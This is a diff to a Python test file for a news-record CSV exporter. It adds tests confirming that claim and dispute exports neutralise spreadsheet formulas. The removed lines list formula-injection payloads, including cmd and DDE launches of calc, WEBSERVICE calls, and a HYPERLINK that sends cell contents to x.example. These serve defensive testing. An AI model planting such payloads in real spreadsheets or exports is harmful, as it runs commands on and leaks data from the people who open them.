@@ -8,21 +8,14 @@ from dataclasses import replace
 
 import pytest
 
+from hostile import FORMULAS
 from made import MADE, at, ferry_reading, make_actor, make_reading, make_report, make_statement, make_time
 from onrecord.corroborate.record import gather
-from onrecord.exporters.csv import record_to_csv
-from onrecord.values import SpeakerStatus
+from onrecord.exporters.csv import claims_to_csv, disputes_to_csv, record_to_csv
+from onrecord.values import Claim, SpeakerStatus, Standing, Words
+from stories_made import mill_record
 
 FERRY_RECORD = gather([ferry_reading()], [], MADE)
-
-FORMULAS = (
-    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"more")', '=""&A1', "==1", "= 1", "="),
-    *('=WEBSERVICE("http://x.example")', '=DDE("cmd";"/C calc";"x")', "=SUM(A1:A9)*cmd|'/C calc'!A0"),
-    *("+1+1", "+cmd|' /C calc'!A0", "+SUM(1)", "++1", "+"),
-    *("-1+1", "-2+3+cmd|' /C calc'!A0", "--1", "-", "-A1"),
-    *("@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "@", "@@", "@IMPORTXML(A1)"),
-    *("\t=1+1", "\t+1", "\tword", "\r=1+1", "\r-1"),
-)
 
 
 def read_back(text: str) -> list[dict[str, str]]:
@@ -110,6 +103,64 @@ def test_no_cell_is_a_formula(cell: str) -> None:
 
     for name in ("location", "outlet", "title", "speakers", "speaker", "content"):
         assert row[name] == f"'{cell}"
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_no_cell_of_a_claim_or_a_dispute_is_a_formula(cell: str) -> None:
+    """
+    The same rule in every table.
+    """
+    report = make_report(f"{cell}, said Ana", location=cell, outlet=cell)
+    words = Words("r1", at(report.text, cell))
+    claim = Claim(id="c1", story="y1", words=words, affirming=(), standing=Standing.SINGLE_SOURCE, sources=(cell,))
+    dispute = mill_record().disputes[0]
+    side = replace(dispute.sides[0], value=cell, words=(words,), sources=(cell,), statements=())
+    record = mill_record(
+        reports=(report,), statements=(), claims=(claim,), disputes=(replace(dispute, sides=(side,), why=cell),)
+    )
+
+    (claimed,), (disputed,) = read_back(claims_to_csv(record)), read_back(disputes_to_csv(record))
+
+    assert {f"'{cell}"} == {claimed[name] for name in ("words", "sources", "outlet", "location")}
+    assert {f"'{cell}"} == {disputed[name] for name in ("value", "words", "sources", "why", "outlet")}
+
+
+def test_a_claim_says_where_it_stands_and_on_whose_word() -> None:
+    """
+    The words are those of the report, at the offsets.
+    """
+    row = read_back(claims_to_csv(mill_record()))[0]
+
+    assert row == {
+        "claim": "c1",
+        "story": "y1",
+        "story_title": "Mill burns in Ostby",
+        "standing": "agreed",
+        "words": "The mill burned on Friday",
+        "sources": "Ana Ruiz; Bea Holm",
+        "origins": "2",
+        "affirming": "s1; s5",
+        "denying": "",
+        "report": "c",
+        "outlet": "Ostby Courier",
+        "url": "",
+        "location": "c.txt",
+        "line": "3",
+        "start": "21",
+        "end": "46",
+    }
+
+
+def test_the_sides_of_a_dispute_follow_each_other() -> None:
+    """
+    One side a row, with the number of the side.
+    """
+    rows = read_back(disputes_to_csv(mill_record()))
+
+    assert [(row["dispute"], row["side"], row["value"], row["sources"]) for row in rows[:2]] == [
+        ("d1", "1", "9", "Ana Ruiz"),
+        ("d1", "2", "14", "Bea Holm"),
+    ]
 
 
 def test_every_line_break_of_a_report_stays_within_its_cell() -> None:
